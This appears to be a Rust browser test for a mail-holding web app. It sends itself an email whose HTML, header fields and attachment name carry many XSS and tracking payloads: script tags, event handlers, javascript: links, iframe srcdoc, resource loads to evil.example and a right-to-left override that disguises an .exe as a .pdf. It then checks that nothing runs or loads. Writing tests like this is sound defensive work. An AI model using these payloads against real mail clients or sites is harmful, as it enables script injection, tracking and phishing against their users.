//! A mail that wants to do something to whoever looks at it: nothing of it runs, nothing is fetched, nothing grows.

use std::fmt::Write as _;

use super::mails::{ANNA, firm};
use crate::support::browser::{Browser, PHONE};
use crate::support::client::send;
use crate::support::guard::{Guard, id_in};

/// Everything known to act in a mail or in a page it is put into; each would set `hacked` or go to the trap.
const HTML: &str = r#"<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/style.css">
<link rel="preconnect" href="http://evil.example"><link rel="dns-prefetch" href="http://evil.example">
<style>@import url(http://evil.example/import.css); body { background: url(http://evil.example/background.png) }
@font-face { font-family: f; src: url(http://evil.example/font.woff2) } p { font-family: f; position: fixed; inset: 0; z-index: 99999 }</style>
<script>top.hacked = 1; parent.postMessage("x", "*"); top.location = "http://evil.example/top"</script>
<script src="http://evil.example/script.js"></script></head>
<body onload="top.hacked = 2" background="http://evil.example/old.png">
<p>confidential</p></textarea></pre></iframe></details></main></body><script>window.hacked = 3</script>
<img src="http://evil.example/pixel.png" srcset="http://evil.example/2x.png 2x" onerror="top.hacked = 4">
<svg onload="top.hacked = 5"><script>top.hacked = 6</script><image href="http://evil.example/svg.png"/><use href="http://evil.example/u.svg#a"/></svg>
<math><mtext><a xlink:href="javascript:top.hacked=7">m</a></mtext></math>
<a href="javascript:top.hacked = 8" target="_top">your invoice</a><a href="http://evil.example/ping" ping="http://evil.example/ping2">x</a>
<form action="http://evil.example/form" method="post" id="f"><input name="password" autofocus onfocus="top.hacked = 9"><button>Send</button></form>
<iframe src="http://evil.example/frame" srcdoc="<script>top.hacked = 10</script>"></iframe>
<object data="http://evil.example/object.swf"></object><embed src="http://evil.example/embed.swf">
<video poster="http://evil.example/poster.png" src="http://evil.example/v.mp4" autoplay></video><audio src="http://evil.example/a.mp3" autoplay></audio>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.hacked=11'><image href='http://evil.example/inner.png'/></svg>">
<input type="image" src="http://evil.example/input.png"><table background="http://evil.example/table.png"><tr><td>x</td></tr></table>
<details open ontoggle="top.hacked = 12"><summary>s</summary></details><marquee onstart="top.hacked = 13">m</marquee></body></html>"#;

/// Names and header fields that would break out of where they are shown, or turn what stands around them.
const NAME: &str = r#""></title><script>hacked=14</script><img src=http://evil.example/n.png onerror=hacked=15>"#;
const TURNED: &str = "invoice\u{202e}fdp.exe\u{2066}\u{200f}";

fn mail(body: &str) -> String {
    let quoted = NAME.replace('"', "\\\"");
    format!(
        "From: Anna Weber <{ANNA}>\r\nTo: \"{quoted}\" <eva@kita.example>\r\nSubject: {NAME} {TURNED}\r\nX-Evil: {NAME}\r\n\
         MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n\
         --b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{body}\r\n\
         --b\r\nContent-Type: image/svg+xml; charset=utf-8\r\n\
         Content-Disposition: attachment; filename*=utf-8''%3Cscript%3Ehacked%3D16%3C%2Fscript%3E%E2%80%AEgpj.svg\r\n\r\n\
         <svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"hacked=17\"><script>hacked=18</script></svg>\r\n--b--\r\n"
    )
}

/// Opens whatever is closed, and waits until the frames have loaded.
async fn everything_opened(browser: &Browser) {
    browser
        .script("document.querySelectorAll('details').forEach(it => { it.open = true; it.scrollIntoView() })", vec![])
        .await;
    let loaded = "return await Promise.all([...document.querySelectorAll('iframe')].map(async frame => { \
                  frame.loading = 'eager'; frame.scrollIntoView(); \
                  await new Promise(done => { frame.addEventListener('load', done); frame.src = frame.src }) })).then(all => all.length)";
    browser.promise(loaded, vec![]).await;
}

/// Nothing has run, nobody was led away, and all that was loaded comes from the page itself.
async fn nothing_happened(browser: &Browser, guard: &Guard, path: &str) {
    let acted = browser.script("return [typeof hacked, top === self]", vec![]).await;
    assert_eq!(acted, serde_json::json!(["undefined", true]), "{path}");
    assert_eq!(browser.path().await, path, "nobody is led away");
    let origin = format!("http://{}/", guard.page());
    // What the browser shows in a tab of its own before there is a page is no request to anybody.
    for address in browser.requests().await.into_iter().filter(|address| !address.starts_with("chrome://")) {
        assert!(address.starts_with(&origin) || address.starts_with("data:"), "{path}: {address} was asked for");
    }
    assert_eq!(browser.trap().caught(), [] as [String; 0], "{path}");
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_runs_and_nothing_is_fetched() {
    let (_fake, guard) = firm().await;
    let html = HTML.replace('\n', "\r\n");
    let id = id_in(&send(guard.addr(), ANNA, &["eva@kita.example"], mail(&html)));
    let browser = Browser::speaking("en").await;
    browser.resize(PHONE).await;
    browser.sign_in(&guard).await;
    // What Chromium asked itself for while it started is none of ours.
    browser.requests().await;

    for (path, name) in [("/", "list"), (&*format!("/{id}"), "held"), (&*format!("/{id}/why"), "why")] {
        browser.visit(&guard, path).await;
        everything_opened(&browser).await;
        browser.shot("hostile", name).await;
        let wide = browser.script("return document.scrollingElement.scrollWidth", vec![]).await;
        assert_eq!(wide, 360, "{path}");
        nothing_happened(&browser, &guard, path).await;
        let text = browser.text().await;
        assert!(!text.contains(['\u{202e}', '\u{2066}', '\u{200f}']), "{path}: nothing turns the text around");
    }
    // The same on its own, out of its frame: nothing of it may act there either.
    let path = format!("/{id}/html");
    browser.visit(&guard, &path).await;
    browser.shot("hostile", "html").await;
    nothing_happened(&browser, &guard, &path).await;
    for pressed in ["form button", "[target]", "input[type=image]"] {
        browser.script("document.querySelector(arguments[0]).click()", vec![pressed.into()]).await;
        nothing_happened(&browser, &guard, &path).await;
    }

    browser.visit(&guard, &format!("/{id}")).await;
    let frames = browser
        .script("return [...document.querySelectorAll('iframe')].map(it => it.getAttribute('sandbox'))", vec![])
        .await;
    assert_eq!(frames, serde_json::json!([""]), "one frame, allowed nothing");
    // Whoever follows a link in the frame gets nowhere either.
    everything_opened(&browser).await;
    browser.client().enter_frame(0).await.unwrap();
    browser.script("document.querySelector('[ping]').click()", vec![]).await;
    browser.client().enter_parent_frame().await.unwrap();
    nothing_happened(&browser, &guard, &format!("/{id}")).await;
    assert_eq!(guard.state_of(&id), "held");
}

#[tokio::test(flavor = "multi_thread")]
async fn five_megabytes_are_cut_to_a_page() {
    let (_fake, guard) = firm().await;
    let mut html = String::from("<p>confidential</p>");
    while html.len() < 5_000_000 {
        write!(
            html,
            "<table><tr><td><b>{}</b></td></tr></table>\r\n<script>hacked = {}</script>\r\n",
            html.len(),
            html.len()
        )
        .unwrap();
    }
    let id = id_in(&send(guard.addr(), ANNA, &["eva@kita.example"], mail(&html)));
    let browser = Browser::speaking("en").await;
    browser.resize(PHONE).await;
    browser.sign_in(&guard).await;
    browser.visit(&guard, &format!("/{id}")).await;
    browser.until_text("Not sent yet.").await;
    let size = browser.script("return document.documentElement.outerHTML.length", vec![]).await.as_u64().unwrap();
    assert!(size < 60_000, "the page has {size} characters");
    everything_opened(&browser).await;
    browser.shot("hostile", "large").await;
    browser.types("x").await;
    assert_eq!(browser.focused().await, " Don’t send", "it answers to keys");
    browser.press(fantoccini::key::Key::Enter).await;
    browser.until_text("Not sent: it was withdrawn.").await;
}
